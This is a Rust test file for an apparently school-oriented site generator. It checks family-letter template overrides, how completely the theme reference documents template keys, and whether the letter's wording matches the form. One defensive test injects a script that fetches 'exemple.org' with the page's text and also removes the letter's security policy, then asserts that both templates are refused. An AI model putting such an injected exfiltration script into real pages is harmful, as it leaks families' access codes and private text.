//! A school's `theme/templates/` overrides the default theme's templates,
//! including those of the pages made outside the site: the family letters
//! (`lettre.html`). An override cannot drop the letter's security policy.

use super::common::{class_code, preau, repo, school_copy, text};

/// The default theme's `lettre.html`.
fn default_letter() -> String {
    std::fs::read_to_string(repo().join("themes/default/templates/lettre.html")).unwrap()
}

#[test]
fn a_school_theme_overrides_the_family_letter() {
    let (_tmp, school) = school_copy("minimal");
    let mine = default_letter().replace(
        "<p>Madame, Monsieur,</p>",
        "<p>Chères familles de la {{ class.name }},</p>",
    );
    std::fs::create_dir_all(school.join("theme/templates")).unwrap();
    std::fs::write(school.join("theme/templates/lettre.html"), mine).unwrap();
    let r = preau(&school, &["access", "lettres"]);
    assert!(r.status.success(), "{:?}", text(&r));
    let letter = std::fs::read_to_string(school.join(".preau/lettres/lettre-cm1.html")).unwrap();
    assert!(
        letter.contains("Chères familles de la CM1 de Mme Martin,"),
        "{letter}"
    );
    assert!(letter.contains(&class_code(&school, "cm1")) && letter.contains("<svg"));
}

#[test]
fn a_letter_template_that_drops_its_policy_or_adds_a_script_is_refused() {
    let without_policy: String = default_letter()
        .lines()
        .filter(|l| !l.contains("Content-Security-Policy"))
        .map(|l| format!("{l}\n"))
        .collect();
    let with_script = default_letter().replace(
        "</body>",
        "<script>fetch('https://exemple.org/?' + document.body.innerText)</script></body>",
    );
    for template in [without_policy, with_script] {
        let (_tmp, school) = school_copy("minimal");
        std::fs::create_dir_all(school.join("theme/templates")).unwrap();
        std::fs::write(school.join("theme/templates/lettre.html"), template).unwrap();
        let r = preau(&school, &["access", "lettres"]);
        let (_, stderr) = text(&r);
        assert!(!r.status.success(), "{stderr}");
        assert!(
            stderr.contains("theme/templates/lettre.html") && stderr.contains("conseil :"),
            "{stderr}"
        );
        assert!(
            !school.join(".preau/lettres/lettre-cm1.html").exists(),
            "a refused letter was written"
        );
    }
}

/// The theme reference (book/src/reference/gabarits.md) names every
/// template of the default theme and every name its templates read: a
/// theme author finds there each key a template can use.
#[test]
fn the_book_documents_every_template_and_every_name_they_read() {
    let book = std::fs::read_to_string(repo().join("book/src/reference/gabarits.md")).unwrap();
    let documented: std::collections::BTreeSet<&str> = book
        .split('`')
        .skip(1)
        .step_by(2)
        .flat_map(|span| span.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.')))
        .flat_map(|word| word.split('.'))
        .collect();
    let keywords = [
        "if", "elif", "else", "endif", "for", "in", "endfor", "block", "endblock", "extends",
        "import", "as", "macro", "endmacro", "and", "or", "not", "is", "loop", "m", "true",
        "false", "super", "html", "set",
    ];
    let comments = regex::Regex::new(r"(?s)\{#.*?#\}").unwrap();
    let tag = regex::Regex::new(r"(?s)\{\{(.*?)\}\}|\{%-?(.*?)-?%\}").unwrap();
    let strings = regex::Regex::new(r#""[^"]*""#).unwrap();
    let calls = regex::Regex::new(r"\|\s*\w+|\w+\s*=|\w+\s*\(|\bis\s+\w+").unwrap();
    let locals = regex::Regex::new(r"for\s+(\w+)\s+in|macro\s+\w+\(([^)]*)\)").unwrap();
    let path = regex::Regex::new(r"\b[a-z_][a-z0-9_]*(?:\.[a-z_][a-z0-9_]*)*").unwrap();
    let mut missing = Vec::new();
    let dir = repo().join("themes/default/templates");
    for entry in std::fs::read_dir(&dir).unwrap() {
        let name = entry.unwrap().file_name().to_string_lossy().into_owned();
        if !book.contains(&format!("`{name}`")) {
            missing.push(format!("{name}: the template itself"));
        }
        let text = std::fs::read_to_string(dir.join(&name)).unwrap();
        let text = comments.replace_all(&text, "");
        let mut local: Vec<String> = Vec::new();
        for c in locals.captures_iter(&text) {
            let names = c.get(1).or(c.get(2)).unwrap().as_str();
            local.extend(
                names
                    .split(',')
                    .map(|n| n.split('=').next().unwrap().trim().to_string()),
            );
        }
        for c in tag.captures_iter(&text) {
            let inside = c.get(1).or(c.get(2)).unwrap().as_str();
            let inside = strings.replace_all(inside, "\"\"");
            let inside = calls.replace_all(&inside, " ");
            for p in path.find_iter(&inside) {
                let mut parts = p.as_str().split('.');
                let first = parts.next().unwrap();
                let known_first = keywords.contains(&first)
                    || local.iter().any(|l| l == first)
                    || documented.contains(first);
                if !known_first {
                    missing.push(format!("{name}: {}", p.as_str()));
                }
                for field in parts.filter(|_| first != "loop") {
                    if !documented.contains(field) {
                        missing.push(format!("{name}: {} ({field})", p.as_str()));
                    }
                }
            }
        }
    }
    assert!(
        missing.is_empty(),
        "not in the theme reference: {missing:#?}"
    );
}

#[test]
fn the_family_letter_uses_the_words_of_the_form() {
    // What the letter tells families to choose is what the form shows.
    let letter = default_letter();
    let form = std::fs::read_to_string(repo().join("themes/default/templates/shell.html")).unwrap();
    for words in [
        "Se souvenir du code",
        "Sur cet appareil (pas sur un ordinateur partagé)",
        "Pendant cette visite seulement",
        "Ouvrir l'espace",
    ] {
        assert!(form.contains(words), "the form no longer says « {words} »");
        assert!(
            letter.contains(&words.replace('\'', "&#39;")) || letter.contains(words),
            "the letter does not say « {words} »"
        );
    }
}
